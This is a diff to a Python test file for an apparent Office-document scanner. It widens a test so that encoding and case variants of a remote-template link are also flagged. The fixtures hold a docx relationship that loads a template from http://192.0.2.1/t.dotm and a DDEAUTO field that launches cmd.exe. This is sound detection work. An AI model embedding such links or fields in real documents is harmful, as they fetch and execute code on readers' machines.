@@ -207,7 +207,8 @@ def test_a_template_from_elsewhere_and_a_field_that_asks_programs() -> None:
         b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
         b'attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
     )
-    assert codes(office("docx", {"word/_rels/settings.xml.rels": rels}), "a.docx") == ["active-content"]
+    for written in (rels, rels.replace(b"External", b"external"), rels.decode().encode("utf-16")):
+        assert codes(office("docx", {"word/_rels/settings.xml.rels": written}), "a.docx") == ["active-content"]
     field = b'<w:p xmlns:w="w"><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:p>'
     assert codes(office("docx", {"word/footer1.xml": field}), "a.docx") == ["active-content"]
     assert codes(office("docx", {"word/footer1.xml": b'<w:p xmlns:w="w" w:rsid="00DDE0">DDE </w:p>'}), "a.docx") == []
